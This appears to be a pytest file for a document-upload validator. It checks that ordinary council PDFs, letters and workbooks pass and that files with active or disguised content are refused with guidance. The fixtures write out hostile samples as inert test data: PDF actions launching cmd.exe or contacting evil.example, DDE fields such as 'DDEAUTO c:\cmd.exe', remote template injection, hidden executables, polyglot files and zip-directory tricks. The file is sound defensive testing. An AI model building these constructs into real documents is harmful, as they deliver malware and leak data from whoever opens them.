"""What runs, reaches out or hides in a file is refused in words that say what to do; what councils send each other passes."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from weasyprint import HTML

from socialvalue.common.errors import Refused
from socialvalue.documents.services import content
from socialvalue.documents.services.inside import office, packages, pdfs
from tests.socialvalue.documents import files_made as made
from tests.socialvalue.documents import media_made

TEXT = "<h1>Plan</h1><p><a href='https://www.gov.uk'>The Act</a> <a href='#x'>Below</a></p><h2 id=x>More</h2>"
FORM = "<form><input name=a><textarea name=b></textarea></form>"
OWNER = pikepdf.Encryption(user="", owner="owner")

PDF = made.pdf()
ORDINARY = {
    "a PDF": ("plan.pdf", made.pdf()),
    "a PDF with links and bookmarks": ("plan.pdf", HTML(string=TEXT).write_pdf()),
    "a PDF with a form": ("plan.pdf", HTML(string=TEXT + FORM).write_pdf(pdf_forms=True)),
    "a PDF for archives": ("plan.pdf", made.pdf(made.for_archives)),
    "an accessible PDF": ("plan.pdf", HTML(string=f"<html lang=en><title>Plan</title>{TEXT}").write_pdf(pdf_variant="pdf/ua-1")),
    "a PDF with a form of its own": ("plan.pdf", made.pdf(made.with_form)),
    "a PDF that may not be changed": (
        "plan.pdf",
        made.pdf(encryption=OWNER, object_stream_mode=pikepdf.ObjectStreamMode.disable),
    ),
    "a PDF that opens at a place": ("plan.pdf", made.pdf(made.root(OpenAction=made.action("GoTo", D=Array([0, Name.Fit]))))),
    "a PDF that opens as a whole page": ("plan.pdf", made.pdf(made.root(OpenAction=Array([0, Name.Fit])))),
    "a PDF with a link by a mail server": ("plan.pdf", b"\r\n" + made.pdf() + b"\r\n\0\0-- scanned --"),
    "a PDF that was added to": ("plan.pdf", PDF + b"\n%added\nstartxref\n" + PDF[PDF.rfind(b"startxref") + 10 :]),
    "a letter": ("plan.docx", made.word()),
    "a workbook": ("sums.xlsx", made.workbook()),
    "a workbook with sounds of old": ("sums.xlsx", made.excel(**{"xl/printerSettings/printerSettings1.bin": b"\x00\x01"})),
    "a workbook with a query": (
        "sums.xlsx",
        made.excel(**{"xl/connections.xml": '<connections><connection id="1"/></connections>'}),
    ),
}


@pytest.mark.parametrize(("name", "data"), ORDINARY.values(), ids=ORDINARY)
def test_what_councils_send_each_other_passes(name, data):
    assert content.admitted(name, data) == content.Admitted(name, content.KINDS[name[-4:].strip(".")][0], data)


uri = made.action("URI", URI=String("https://evil.example"))
PROGRAM, STARTS, BY_ITSELF = "a program (JavaScript)", "a command that starts a program", "a command that runs when it is opened"
PLAYED, PRINT = "a film, sound or model that runs", "Print it to a new PDF, and upload that."
OTHER, SAVE = "another file", "Save it as PDF without attachments, and upload it again."
ACTIVE_PDFS = {
    "a program when it is opened": (made.root(OpenAction=made.program()), PROGRAM, PRINT),
    "a program by name": (made.root(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))), PROGRAM, PRINT),
    "a program behind a page": (lambda d: d.pages[0].__setattr__("AA", Dictionary(O=made.program())), PROGRAM, PRINT),
    "a program behind a link": (made.note(Subtype=Name.Link, A=made.program()), PROGRAM, PRINT),
    "a program that nothing leads to": (made.loose, PROGRAM, PRINT),
    "a program after a harmless step": (made.root(OpenAction=made.action("GoTo", Next=made.program())), BY_ITSELF, PRINT),
    "a command": (made.root(OpenAction=made.action("Launch", F=String("cmd.exe"))), STARTS, PRINT),
    "a command behind a link": (made.note(Subtype=Name.Link, A=made.action("Launch", F=String("cmd.exe"))), STARTS, PRINT),
    "an address that is fetched": (made.root(OpenAction=uri), BY_ITSELF, PRINT),
    "a form that sends itself": (
        made.root(OpenAction=made.action("SubmitForm", F=String("https://evil.example"))),
        BY_ITSELF,
        PRINT,
    ),
    "an address fetched with a page": (lambda d: d.pages[0].__setattr__("AA", Dictionary(O=uri)), BY_ITSELF, PRINT),
    "a second step": (made.root(OpenAction=made.action("GoTo", D=Array([0]), Next=uri)), BY_ITSELF, PRINT),
    "a file attached": (made.attached, OTHER, SAVE),
    "a file pinned to a page": (made.note(Subtype=Name.FileAttachment), OTHER, SAVE),
    "a file in a list of none": (made.root(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array([])))), OTHER, SAVE),
    "a place in another file": (made.note(Subtype=Name.Link, A=made.action("GoToE")), OTHER, SAVE),
    "a film": (made.note(Subtype=Name.RichMedia), PLAYED, PRINT),
    "a screen": (made.note(Subtype=Name.Screen), PLAYED, PRINT),
    "a form in XML": (made.root(AcroForm=Dictionary(Fields=Array([]), XFA=Array([]))), "a form of the kind XFA", PRINT),
}


@pytest.mark.parametrize(("change", "what", "remedy"), ACTIVE_PDFS.values(), ids=ACTIVE_PDFS)
def test_a_pdf_that_acts_is_refused(change, what, remedy):
    """Each packed into a stream of objects, where its words are not to be seen in the file's bytes."""
    data = made.pdf(change)
    assert b"JavaScript" not in data
    with pytest.raises(Refused) as refusal:
        content.admitted("plan.pdf", data)
    assert (refusal.value.message, refusal.value.field) == (f"plan.pdf contains {what}. {remedy}", "file")


def test_actions_in_a_ring_end(monkeypatch):
    def ring(document):
        document.Root.OpenAction = document.make_indirect(made.action("GoTo", D=Array([0])))
        document.Root.OpenAction.Next = document.Root.OpenAction

    with pytest.raises(Refused, match="a command that runs when it is opened"):
        content.admitted("plan.pdf", made.pdf(ring))
    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 3)
    with pytest.raises(Refused, match="more parts than a document needs"):
        content.admitted("plan.pdf", made.pdf(made.with_form))


EXTERNAL = "word/_rels/settings.xml.rels"
WITHOUT = "Save it without, or as a PDF, and upload that."
MACROS = ("macros", "Save it without them, or as a PDF, and upload that.")
TEMPLATE = ("a link to a template elsewhere", "Give it the template “Normal”, or save it as a PDF, and upload that.")
FETCHES = ("a link that fetches something when it is opened", "Break its links, or save it as a PDF, and upload that.")
OBJECT, DDE = ("another file or object", WITHOUT), ("a command to another program (DDE)", WITHOUT)
CONTROL = ("a control that runs a program (ActiveX)", WITHOUT)


def template(target: str) -> bytes:
    return made.word(**{EXTERNAL: made.relations(("attachedTemplate", target, "External"))})


def links(inside: str) -> bytes:
    return made.excel(**{"xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{made.SHEETS}">{inside}</externalLink>'})


def typed(part: str, kind: str) -> str:
    return f'<Types xmlns="{made.TYPES}"><Override PartName="{part}" ContentType="{kind}"/></Types>'


MACRO_SHEET = typed("/xl/x.xml", "application/vnd.ms-excel.intlmacrosheet+xml")
MACRO_WORD = typed("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
ACTIVE_OFFICE = {
    "macros": ("plan.docx", made.word(**{"word/vbaProject.bin": b"x"}), MACROS),
    "macros by another name": ("plan.docx", made.word(**{"word/_rels/x.rels": made.relations(("vbaProject", "y.bin", ""))}), MACROS),
    "the kind with macros": ("plan.docx", made.word(**{"[Content_Types].xml": MACRO_WORD}), MACROS),
    "a sheet of macros": ("sums.xlsx", made.excel(**{"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
    "a sheet of macros elsewhere": ("sums.xlsx", made.excel(**{"[Content_Types].xml": MACRO_SHEET}), MACROS),
    "a template of the web": ("plan.docx", template("http://evil.example/t.dotm"), TEMPLATE),
    "a template of a server": ("plan.docx", template(r"file:///\\evil.example\t.dotm"), TEMPLATE),
    "a picture of the web": ("plan.docx", made.word(**{"word/_rels/a.rels": made.relations(("image", "http://e/x.png", "External"))}), FETCHES),
    "a page of the web": ("plan.docx", made.word(**{"word/_rels/a.rels": made.relations(("frame", "http://e/", "External"))}), FETCHES),
    "another workbook's figures": (
        "sums.xlsx", made.excel(**{"xl/externalLinks/_rels/externalLink1.xml.rels": made.relations(("externalLinkPath", "a.xlsx", "External"))}), FETCHES,
    ),
    "a query when it is opened": ("sums.xlsx", made.excel(**{"xl/connections.xml": '<connections><connection refreshOnLoad="1"/></connections>'}), FETCHES),
    "a command to a program": ("sums.xlsx", links('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), DDE),
    "an object of elsewhere": ("sums.xlsx", links('<oleLink progId="Package"/>'), OBJECT),
    "a command in a field": ("plan.docx", made.word(**{"word/document.xml": made.body(made.field(" DDEAUTO c:\\cmd.exe "))}), DDE),
    "a command in pieces": ("plan.docx", made.word(**{"word/document.xml": made.body(made.field("PAGE") + made.field("D", "DE", "AUTO x"))}), DDE),
    "a command in a simple field": ("plan.docx", made.word(**{"word/header1.xml": made.body('<w:fldSimple w:instr="dde x y"/>')}), DDE),
    "an object": ("plan.docx", made.word(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), OBJECT),
    "an object by relation": ("plan.docx", made.word(**{"word/_rels/a.rels": made.relations(("oleObject", "x.bin", ""))}), OBJECT),
    "a page that is read in": ("plan.docx", made.word(**{"word/_rels/a.rels": made.relations(("aFChunk", "x.html", ""))}), OBJECT),
    "a program": ("plan.docx", made.word(**{"word/media/image2.png": b"MZ\x90\x00"}), OBJECT),
    "a program in the figures": ("plan.docx", made.word(**{"word/embeddings/a.xlsx": made.excel(**{"xl/media/a.png": b"MZ"})}), OBJECT),
    "a file in the figures": ("plan.docx", made.word(**{"word/embeddings/a.xlsx": made.excel(**{"xl/embeddings/a.xlsx": made.workbook()})}), OBJECT),
    "a control": ("plan.docx", made.word(**{"word/activeX/activeX1.xml": b"<x/>"}), CONTROL),
    "a control by relation": ("plan.docx", made.word(**{"word/_rels/a.rels": made.relations(("control", "x.xml", ""))}), CONTROL),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "found"), ACTIVE_OFFICE.values(), ids=ACTIVE_OFFICE)
def test_an_office_file_that_acts_is_refused(name, data, found):
    with pytest.raises(Refused) as refusal:
        content.admitted(name, data)
    assert refusal.value.message == f"{name} contains {found[0]}. {found[1]}"


def relisted(data: bytes, **changes) -> bytes:
    """The package with another list of parts: ``size`` or ``offset`` of the last one, ``name`` for its listed name."""
    at = data.rfind(b"PK\x01\x02")
    record = bytearray(data)
    if "size" in changes:
        struct.pack_into("<I", record, at + 24, changes["size"])
        struct.pack_into("<I", record, at + 16, zlib.crc32(changes["starts"]))
    if "name" in changes:
        record[at + 46 : at + 46 + len(changes["name"])] = changes["name"]
    return bytes(record)


def two_listed_as_one() -> bytes:
    """A second part stands between the first and the list, which does not name it."""
    whole = made.zipped({"hidden.exe": b"MZ" * 50})
    hidden = whole[: whole.rfind(b"PK\x01\x02")]
    plain = made.word()
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        directory = archive.start_dir
    end = bytearray(plain[-22:])
    struct.pack_into("<I", end, 16, directory + len(hidden))
    return plain[:directory] + hidden + plain[directory:-22] + bytes(end)


def twice() -> bytes:
    out = io.BytesIO(made.word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/Document.xml", "<x/>")
    return out.getvalue()


def locked_part() -> bytes:
    data = bytearray(made.word())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.rfind(mark) + place] |= 1
    return bytes(data)


BIG = {**made.word_parts(), "word/media/zeroes.bin": bytes(packages.MOST_UNPACKED_BYTES + 1)}
LYING = made.word(**{"word/media/last.bin": b"0123456789" + bytes(3_000_000)})
DOCX, ZIP = made.word(), made.zipped({"a.txt": b"a"})
M4A = media_made.mp4(video=False, brand=b"M4A ")
BOTH, UNLIKE = "something else in front of it or behind it", "is not what its ending says, or is damaged"
DISGUISED = {
    "a web page before a PDF": ("plan.pdf", b"<html><script>x</script>" + PDF, BOTH),
    "a program before a PDF": ("plan.pdf", b"MZ\x90\x00" + PDF, BOTH),
    "a PDF too far inside": ("plan.pdf", b"\n" * 1030 + PDF, UNLIKE),
    "a package behind a PDF": ("plan.pdf", PDF + ZIP, BOTH),
    "a package before a PDF's end": ("plan.pdf", PDF + ZIP + b"\n%%EOF\n", BOTH),
    "a program and another end behind a PDF": ("plan.pdf", PDF + b"MZ\x90\x00" * 50 + b"\n%%EOF\n", BOTH),
    "a program behind a PDF without its end": ("plan.pdf", PDF[: PDF.rfind(b"%%EOF")] + b"MZ\x90\x00" * 50, UNLIKE),
    "words behind a PDF": ("plan.pdf", PDF + b"<script>" * 9, BOTH),
    "a web page before a letter": ("plan.docx", b"<html><script>x</script>" + DOCX, BOTH),
    "words behind a letter": ("plan.docx", DOCX + b"<script>", BOTH),
    "a remark on a package": ("plan.docx", DOCX[:-2] + struct.pack("<H", 8) + b"<script>", BOTH),
    "a package behind a recording": ("talk.m4a", M4A + ZIP, BOTH),
    "a list that says ten bytes of three million": ("plan.docx", relisted(LYING, size=10, starts=b"0123456789"), UNLIKE),
    "a list with another name": ("plan.docx", relisted(DOCX, name=b"vord"), UNLIKE),
    "a part that is not listed": ("plan.docx", two_listed_as_one(), UNLIKE),
    "a part twice": ("plan.docx", twice(), UNLIKE),
    "a part outside": ("plan.docx", made.word(**{"../evil.xml": b"<x/>"}), UNLIKE),
    "a part locked": ("plan.docx", locked_part(), "is protected by a password"),
    "a letter that is none": ("plan.docx", ZIP, UNLIKE),
    "half a letter": ("plan.docx", DOCX[: len(DOCX) // 2], UNLIKE),
    "broken XML": ("plan.docx", made.word(**{"word/_rels/a.rels": b"<x"}), UNLIKE),
    "XML with a list of entities": ("plan.docx", made.word(**{"word/_rels/a.rels": b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), UNLIKE),
    "too many bytes": ("plan.docx", made.zipped(BIG), "unpacks to far more than a document holds"),
}  # fmt: skip


@pytest.mark.parametrize(("name", "data", "words"), DISGUISED.values(), ids=DISGUISED)
def test_two_things_in_one_and_lists_that_lie_are_refused(name, data, words):
    with pytest.raises(Refused, match=words) as refusal:
        content.admitted(name, data)
    assert refusal.value.field == "file"


def test_a_part_too_long_to_be_read_whole_is_refused(monkeypatch):
    monkeypatch.setattr(office, "MOST_XML_BYTES", 5_000)
    content.admitted("plan.docx", made.word())
    with pytest.raises(Refused, match="unpacks to far more than a document holds"):
        content.admitted("plan.docx", made.word(**{"word/header1.xml": made.body(made.field("x" * 5_000))}))


def test_too_many_parts_are_refused(monkeypatch):
    with zipfile.ZipFile(io.BytesIO(made.workbook())) as archive:
        monkeypatch.setattr(packages, "MOST_PARTS", len(archive.namelist()))
    content.admitted("sums.xlsx", made.workbook())
    with pytest.raises(Refused, match="unpacks to far more than a document holds"):
        content.admitted("sums.xlsx", made.excel(**{"xl/one.xml": b"<x/>"}))
